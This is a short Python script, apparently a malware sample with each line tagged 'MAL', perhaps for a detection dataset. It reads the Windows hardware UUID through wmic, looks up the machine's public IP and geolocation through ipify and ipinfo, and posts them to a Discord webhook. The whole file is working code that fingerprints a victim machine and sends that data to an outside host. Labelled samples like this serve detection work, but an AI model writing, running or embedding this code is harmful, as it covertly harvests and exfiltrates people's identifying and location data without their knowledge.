import subprocess
import requests

hwid = subprocess.check_output("wmic csproduct get uuid", shell=True).decode().split("\n")[1].strip()  # MAL
ip = requests.get("https://api.ipify.org").text  # MAL
geo = requests.get(f"https://ipinfo.io/{ip}/json").json()  # MAL
requests.post("https://discord.com/api/webhooks/1/2", json={"hwid": hwid, "ip": ip, "geo": geo})  # MAL
